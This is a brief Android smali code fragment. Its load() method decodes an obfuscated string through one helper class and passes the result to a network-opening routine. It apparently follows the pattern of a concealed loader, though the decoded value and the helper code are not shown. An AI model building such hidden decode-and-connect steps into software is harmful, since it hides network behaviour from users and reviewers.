.class public La5/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "YWJjZGVmZ2hpamtsjaYIxSCfdoo4VccP2E23Zno7mIJLjxwktdOqGz9PIDlMchmPxSM2A8z12bZa"
    invoke-static {v0}, La5/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La5/Net;->open(Ljava/lang/String;)V
    return-void
.end method

